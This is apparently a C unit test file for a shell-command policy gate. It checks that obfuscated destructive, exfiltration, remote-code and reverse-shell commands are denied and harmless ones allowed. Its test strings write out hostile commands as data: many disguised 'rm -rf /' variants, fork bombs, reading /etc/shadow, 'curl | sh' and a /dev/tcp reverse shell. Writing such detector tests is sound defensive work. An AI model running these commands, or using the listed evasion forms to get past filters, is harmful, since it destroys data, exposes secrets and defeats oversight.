/*
 * test-policy-parse.c - the shell parser and expansion as the gate sees
 * them: quoting forms, parameters, constant propagation, brace
 * expansion, here-docs, functions, control flow, wrappers, nested code,
 * spans of findings, and failing closed on syntax errors and limits.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "runner/policy/bounds.h"
#include "runner/policy/policy.h"

static char k1[] = "SCRATCH", v1[] = "/scratch/u";
static struct vg_kv kv[] = { { .key = k1, .value = v1 } };
static struct vg_kvs env = { .v = kv, .n = 1, .cap = 1 };
static const struct vg_policy_ctx ctx = {
	.cwd = "/home/u/proj", .home = "/home/u", .env = &env,
};

static int
setup(void **state)
{
	static char mode[] = "auto-deny";
	struct vg_policy_conf conf = { .mode = mode };
	struct vg_diag d = VG_DIAG_INIT;
	struct vg_policy *p;
	struct vg_err e;

	vg_err_init(&e);
	if (vg_policy_open_mem(&conf, "t", NULL, 0, &p, &d, &e) != 0)
		return -1;
	*state = p;
	return 0;
}

static int
teardown(void **state)
{
	vg_policy_free(*state);
	return 0;
}

/* Evaluates cmd and checks the verdict and the category of a finding
 * (the first, or any when a floor finding decides). */
static void
expect(struct vg_policy *p, const char *cmd, const char *cat)
{
	struct vg_verdict v;
	int k;

	assert_int_equal(vg_policy_eval(p, cmd, &ctx, &v), 0);
	if (cat == NULL) {
		if (!v.allowed)
			fail_msg("'%s' denied: %s", cmd, v.summary);
		return;
	}
	if (v.allowed)
		fail_msg("'%s' allowed, want %s", cmd, cat);
	for (k = 0; k < v.nfindings; k++)
		if (strcmp(v.findings[k].category, cat) == 0 && (k == 0 ||
		    strncmp(v.findings[0].rule, "floor:", 6) == 0))
			return;
	fail_msg("'%s': %s, want %s", cmd, v.summary, cat);
}

/* Every quoting form resolves to the same word. */
static void
test_quoting(void **state)
{
	struct vg_policy *p = *state;

	expect(p, "rm -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "'rm' -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "\"r\"m -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "r''m -r''f '/'", VG_CAT_DESTRUCTIVE);
	expect(p, "\\rm -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "r\\m -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "$'\\x72\\x6d' -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "$'\\162\\155' -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "$'\\u0072m' -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "rm -rf \\\n /", VG_CAT_DESTRUCTIVE);
	/* Quoted text is data, not a command. */
	expect(p, "echo 'rm -rf /'", NULL);
	expect(p, "grep -r \"rm -rf /\" docs", NULL);
	expect(p, "git commit -m \"drop sudo\"", NULL);
}

/* Parameters, propagation and IFS. */
static void
test_parameters(void **state)
{
	struct vg_policy *p = *state;

	expect(p, "a=rm; $a -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "a=r b=m; $a$b -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "${X:-rm} -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "x=/etc; rm -rf \"${x}\"", VG_CAT_DESTRUCTIVE);
	expect(p, "x=abc/etc; rm -rf /${x#abc/}", VG_CAT_DESTRUCTIVE);
	expect(p, "x=/etcXX; rm -rf ${x%XX}", VG_CAT_DESTRUCTIVE);
	expect(p, "x=/ETC; rm -rf ${x,,}", VG_CAT_DESTRUCTIVE);
	expect(p, "x=/usr/lib; rm -rf ${x:0:4}", VG_CAT_DESTRUCTIVE);
	expect(p, "x=/opt/a; rm -rf ${x/opt\\/a/etc}", VG_CAT_DESTRUCTIVE);
	expect(p, "c=\"rm -rf /\"; $c", VG_CAT_DESTRUCTIVE);
	expect(p, "IFS=,; c=rm,-rf,/; $c", VG_CAT_DESTRUCTIVE);
	expect(p, "cat${IFS}/etc/shadow", VG_CAT_EXFILTRATION);
	expect(p, "export T=/etc; rm -rf $T", VG_CAT_DESTRUCTIVE);
	expect(p, "read -r x <<< /usr; rm -rf $x", VG_CAT_DESTRUCTIVE);
	expect(p, "printf -v x '%s' /boot; rm -rf $x", VG_CAT_DESTRUCTIVE);
	expect(p, "a=(rm -rf /); \"${a[@]}\"", VG_CAT_DESTRUCTIVE);
	expect(p, "a=x; a+=/..; cd /tmp/$a && rm -rf *", VG_CAT_DESTRUCTIVE);
	/* Assignments only for one command do not leak. */
	expect(p, "X=/ true; rm -rf build/$X", NULL);
	/* Unknown values: wholly unknown targets are unresolved. */
	expect(p, "rm -rf \"$DIR\"", VG_CAT_DESTRUCTIVE);
	expect(p, "rm -rf \"$DIR/\"*", VG_CAT_DESTRUCTIVE);
	expect(p, "rm -rf \"$DIR/build\"", NULL);
	expect(p, "rm -f \"$FILE\"", NULL);
	expect(p, "rm -rf \"$SCRATCH/run-3\"", NULL);
	expect(p, "rm -rf \"$TMPDIR/run-3\"", NULL);
	expect(p, "d=$(mktemp -d); rm -rf \"$d\"", NULL);
}

/* Brace expansion and globs. */
static void
test_braces_globs(void **state)
{
	struct vg_policy *p = *state;

	expect(p, "{rm,-rf,/}", VG_CAT_DESTRUCTIVE);
	expect(p, "rm -rf /{etc,usr}", VG_CAT_DESTRUCTIVE);
	expect(p, "rm -rf build{1,2}", NULL);
	expect(p, "rm -rf \"{a,b}\"", NULL);
	expect(p, "echo {1..100000}", NULL);
	expect(p, "rm -rf /*", VG_CAT_DESTRUCTIVE);
	expect(p, "rm -rf ~/*", VG_CAT_DESTRUCTIVE);
	expect(p, "rm -rf ~/.*", VG_CAT_DESTRUCTIVE);
	expect(p, "rm -f ~/*.log", NULL);
	expect(p, "rm -rf *", NULL);
	expect(p, "rm -rf /tmp/*", VG_CAT_DESTRUCTIVE);
	expect(p, "rm -rf /tmp/job-*", NULL);
	expect(p, "rm -rf /lib*", VG_CAT_DESTRUCTIVE);
}

/* Compound commands, functions, here-docs, substitutions. */
static void
test_structure(void **state)
{
	struct vg_policy *p = *state;

	expect(p, "if true; then rm -rf /; fi", VG_CAT_DESTRUCTIVE);
	expect(p, "for d in a /etc; do rm -rf $d; done", VG_CAT_DESTRUCTIVE);
	expect(p, "for d in a b; do rm -rf $d; done", NULL);
	expect(p, "while read x; do echo $x; done < list", NULL);
	expect(p, "case x in x) rm -rf /;; esac", VG_CAT_DESTRUCTIVE);
	expect(p, "(cd / && rm -rf *)", VG_CAT_DESTRUCTIVE);
	expect(p, "{ cd /etc; rm -rf *; }", VG_CAT_DESTRUCTIVE);
	expect(p, "(cd /; true); rm -rf *", NULL);
	expect(p, "f() { rm -rf \"$1\"; }; f /usr", VG_CAT_DESTRUCTIVE);
	expect(p, "f() { rm -rf \"$1\"; }; f build", NULL);
	expect(p, "function g { rm -rf $@; }; g /etc", VG_CAT_DESTRUCTIVE);
	expect(p, ":(){ :|:& };:", VG_CAT_DISRUPTION);
	expect(p, "z(){ z|z& }; z", VG_CAT_DISRUPTION);
	expect(p, "f(){ echo hi; }; f | f", NULL);
	expect(p, "rm -rf $(echo /)", VG_CAT_DESTRUCTIVE);
	expect(p, "rm -rf `echo /`", VG_CAT_DESTRUCTIVE);
	expect(p, "cat <<EOF | sh\nrm -rf /\nEOF\n", VG_CAT_DESTRUCTIVE);
	expect(p, "cat <<'EOF' > notes.txt\nrm -rf /\nEOF\n", NULL);
	expect(p, "sh <<< 'rm -rf /'", VG_CAT_DESTRUCTIVE);
	expect(p, "bash <(echo 'rm -rf /')", VG_CAT_DESTRUCTIVE);
	expect(p, "[[ -f x && $y == z ]] && rm -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "(( i = 1 + 2 )); echo $((i * 2))", NULL);
	expect(p, "echo hi > /etc/hosts", VG_CAT_SYSCONFIG);
	expect(p, "echo hi 2>/dev/null >out.txt", NULL);
	expect(p, "declare -A m=([a]=1 [b]=2)", NULL);
}

/* Wrappers and nested interpreters. */
static void
test_wrappers_nested(void **state)
{
	struct vg_policy *p = *state;

	expect(p, "timeout 5 nice -n 3 env A=1 /bin/rm -rf /usr",
	    VG_CAT_DESTRUCTIVE);
	expect(p, "busybox rm -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "srun -N 2 --mpi=pmix rm -rf /", VG_CAT_DESTRUCTIVE);
	expect(p, "sudo ls", VG_CAT_PRIVILEGE);
	expect(p, "find / -exec rm -rf {} \\;", VG_CAT_DESTRUCTIVE);
	expect(p, "find . -name '*.o' -exec rm {} +", NULL);
	expect(p, "echo /etc | xargs rm -rf", VG_CAT_DESTRUCTIVE);
	expect(p, "find . -name '*.pyc' | xargs rm -f", NULL);
	expect(p, "sh -c 'sh -c \"rm -rf /\"'", VG_CAT_DESTRUCTIVE);
	expect(p, "eval 'rm -rf /'", VG_CAT_DESTRUCTIVE);
	expect(p, "eval \"$X\"", VG_CAT_OPAQUE);
	expect(p, "eval \"$(conda shell.bash hook)\"", NULL);
	expect(p, "python3 -c \"import os; os.system('rm -rf /')\"",
	    VG_CAT_DESTRUCTIVE);
	expect(p, "python3 -c 'print(1)'", NULL);
	expect(p, "echo cm0gLXJmIC8= | base64 -d | sh", VG_CAT_OBFUSCATION);
	expect(p, "echo cm0gLXJmIC8= | base64 -d", NULL);
	expect(p, "echo '/ fr- mr' | rev | sh", VG_CAT_OBFUSCATION);
	expect(p, "printf '\\x72\\x6d -rf /' | sh", VG_CAT_OBFUSCATION);
	expect(p, "curl -s https://x | sh", VG_CAT_REMOTE_CODE);
	expect(p, "curl -s https://x | jq .", NULL);
	expect(p, "curl -so i.sh https://x; bash i.sh", VG_CAT_REMOTE_CODE);
	expect(p, "bash -i >& /dev/tcp/1.2.3.4/1 0>&1", VG_CAT_REVERSE_SHELL);
	expect(p, "timeout 1 bash -c '</dev/tcp/localhost/22'", NULL);
}

/* Spans point at the offending text of the original command. */
static void
test_spans(void **state)
{
	struct vg_policy *p = *state;
	const char *cmd = "echo ok; rm -rf /etc; ls";
	struct vg_verdict v;

	assert_int_equal(vg_policy_eval(p, cmd, &ctx, &v), 0);
	assert_false(v.allowed);
	assert_int_equal(v.nfindings, 1);
	assert_string_equal(v.findings[0].rule, "floor:delete-root");
	assert_int_equal(v.findings[0].span_off, 9);
	assert_int_equal(v.findings[0].span_len, 11);
	assert_string_equal(v.summary, "deny: destructive "
	    "[floor:delete-root] 'rm -rf /etc': built-in floor: 'rm' deletes "
	    "recursively the protected path '/etc'");
	/* Nested code reports the span of the outer word. */
	cmd = "sh -c 'rm -rf /'";
	assert_int_equal(vg_policy_eval(p, cmd, &ctx, &v), 0);
	assert_int_equal(v.findings[0].span_off, 6);
	assert_int_equal(v.findings[0].span_len, 10);
}

/* Syntax errors and limits fail closed as "unparseable". */
static void
test_fail_closed(void **state)
{
	struct vg_policy *p = *state;
	struct vg_verdict v;
	char *big;
	size_t k;

	expect(p, "echo 'unterminated", VG_CAT_UNPARSEABLE);
	expect(p, "echo \"unterminated", VG_CAT_UNPARSEABLE);
	expect(p, "echo $(unterminated", VG_CAT_UNPARSEABLE);
	expect(p, "if true; then echo", VG_CAT_UNPARSEABLE);
	expect(p, "ls &&", VG_CAT_UNPARSEABLE);
	expect(p, "| ls", VG_CAT_UNPARSEABLE);
	expect(p, "echo )", VG_CAT_UNPARSEABLE);
	expect(p, "sh -c 'echo \"'", VG_CAT_UNPARSEABLE);
	assert_int_equal(vg_policy_eval(p, "ls 'x", &ctx, &v), 0);
	assert_string_equal(v.findings[0].reason,
	    "the command does not parse: unterminated single quote");
	/* Nesting depth. */
	big = malloc(4096);
	for (k = 0; k < 200; k++)
		memcpy(big + k * 2, "$(", 2);
	big[400] = '\0';
	expect(p, big, VG_CAT_UNPARSEABLE);
	/* Length. */
	big = realloc(big, PL_MAX_INPUT + 16);
	memset(big, 'a', PL_MAX_INPUT + 8);
	big[PL_MAX_INPUT + 8] = '\0';
	assert_int_equal(vg_policy_eval(p, big, &ctx, &v), 0);
	assert_false(v.allowed);
	assert_string_equal(v.findings[0].rule, "builtin:too-long");
	/* Expansion count: nested braces multiply. */
	snprintf(big, PL_MAX_INPUT + 16, "%s", "echo {a,b}{a,b}{a,b}{a,b}"
	    "{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}"
	    "{a,b}{a,b}");
	expect(p, big, VG_CAT_UNPARSEABLE);
	free(big);
	/* Empty input and comments run nothing. */
	expect(p, "", NULL);
	expect(p, "# rm -rf /", NULL);
	/* Bad arguments. */
	assert_int_equal(vg_policy_eval(p, NULL, &ctx, &v), VG_EINVAL);
}

/* argv commands are judged word by word, without shell parsing. */
static void
test_argv(void **state)
{
	struct vg_policy *p = *state;
	char *const bad[] = { (char *)(uintptr_t)"rm", (char *)(uintptr_t)"-rf",
	    (char *)(uintptr_t)"/", NULL };
	char *const ok[] = { (char *)(uintptr_t)"echo",
	    (char *)(uintptr_t)"$(rm -rf /)", NULL };
	struct vg_verdict v;

	assert_int_equal(vg_policy_eval_argv(p, bad, &ctx, &v), 0);
	assert_false(v.allowed);
	assert_string_equal(v.findings[0].category, VG_CAT_DESTRUCTIVE);
	assert_int_equal(vg_policy_eval_argv(p, ok, &ctx, &v), 0);
	assert_true(v.allowed);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_quoting),
		cmocka_unit_test(test_parameters),
		cmocka_unit_test(test_braces_globs),
		cmocka_unit_test(test_structure),
		cmocka_unit_test(test_wrappers_nested),
		cmocka_unit_test(test_spans),
		cmocka_unit_test(test_fail_closed),
		cmocka_unit_test(test_argv),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
